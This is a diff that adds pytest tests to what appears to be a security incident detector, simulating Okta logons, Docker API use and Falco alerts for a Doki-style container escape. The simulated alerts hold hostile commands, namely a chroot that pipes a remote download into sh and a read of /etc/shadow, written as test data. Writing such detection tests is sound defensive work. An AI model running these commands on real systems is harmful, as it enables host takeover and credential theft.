@@ -261,3 +261,78 @@ def test_what_leaves_a_host_that_nobody_entered_is_no_incident(tmp_path: Path, f
     backups(site, flow)
     flow(site)(at("12:50:00"), "10.0.0.6", "203.0.113.9", 5_000_000_000, 9000)
     assert site.scan(tmp_path).incidents == []
+
+
+def test_a_second_factor_left_out_by_somebody_who_always_passes_it(tmp_path: Path) -> None:
+    site = world(["ida"])
+    site.portal(at("08:05:00"), "ida", STRANGER, factor=False)
+    incident = one(site.scan(tmp_path))
+    assert (incident.chain, incident.severity) == ("an1005-second-factor-missing", Severity.MEDIUM)
+    assert incident.verdict.endswith("at 2026-03-23 08:05:00, without the second factor that ida always passes")
+    assert reason(incident, "chain") == "ida passed a second factor with each of 15 earlier logons on okta, and none with this one"
+
+
+def passed_abroad(site: World) -> None:
+    site.portal(at("08:05:00"), "ida", STRANGER)
+
+
+def left_out_at_home(site: World) -> None:
+    site.portal(at("08:05:00"), "ida", home("ida"), factor=False)
+
+
+def left_out_before(site: World) -> None:
+    site.portal(at("13:00:00", DAY - timedelta(days=6)), "ida", home("ida"), factor=False)
+    site.portal(at("08:05:00"), "ida", STRANGER, factor=False)
+
+
+def at_the_end_of_the_log(site: World) -> None:
+    site.portal(at("18:05:00"), "ida", STRANGER, factor=False)
+
+
+@pytest.mark.parametrize("life", [passed_abroad, left_out_at_home, left_out_before, at_the_end_of_the_log])
+def test_a_second_factor_that_is_not_surely_missing(tmp_path: Path, life: Callable[[World], None]) -> None:
+    site = world(["ida"])
+    life(site)
+    assert site.scan(tmp_path).incidents == []
+
+
+def containers(site: World) -> None:
+    for back in range(10, -1, -1):
+        time = at("09:00:00", DAY - timedelta(days=back))
+        for step, action in enumerate(("create", "start")):
+            site.docker(time + timedelta(seconds=step), action, f"aa{back:010d}", "shop/web:1")
+        site.falco(time + timedelta(minutes=3), "Read sensitive file untrusted", "Warning", "cat /etc/shadow")  # it is never quiet
+
+
+def test_a_container_made_over_the_open_docker_api_that_leaves_for_the_host(tmp_path: Path) -> None:
+    """As Doki does it: an image with curl, the host's disk mounted, a program nobody has seen."""
+    site = world()
+    containers(site)
+    site.zeek(at("03:00:00"), STRANGER, "10.0.0.31", 2375)
+    site.docker(at("03:00:21"), "create", "1f2e3d4c5b6a", "alpine/curl")
+    site.docker(at("03:00:22"), "start", "1f2e3d4c5b6a", "alpine/curl")
+    site.falco(at("03:00:25"), "Launch Sensitive Mount Container", "Warning", "chroot /mnt sh -c curl http://198.51.100.99/d | sh")
+    site.falco(at("03:00:30"), "Drop and execute new binary in container", "Critical", "/tmp/doki")
+    incident = one(site.scan(tmp_path))
+    assert incident.severity is Severity.HIGH
+    assert incident.hosts == ("docker01",)
+    assert {"an1007-control-plane-used", "an1007-node-foothold"} <= set(incident.chains)
+    assert "created a container (busy_curie), downloaded a tool" in incident.verdict
+    assert "set off an alert of the sensor (/tmp/doki)" in incident.verdict
+
+
+def test_alerts_of_a_host_that_nobody_entered_are_no_incident(tmp_path: Path) -> None:
+    site = world()
+    containers(site)
+    site.falco(at("03:00:30"), "Drop and execute new binary in container", "Critical", "/tmp/doki")
+    assert site.scan(tmp_path).incidents == []
+
+
+def test_an_alert_without_an_account_after_a_stranger_came_in(tmp_path: Path) -> None:
+    site = world()
+    containers(site)
+    site.ssh(at("03:00:00"), "docker01", "ops", STRANGER)
+    site.falco(at("03:05:30"), "Drop and execute new binary in container", "Critical", "/tmp/doki")
+    incident = one(site.scan(tmp_path))
+    assert (incident.chain, incident.severity) == ("an1007-node-entered-alert", Severity.MEDIUM)
+    assert incident.users == ("ops",)
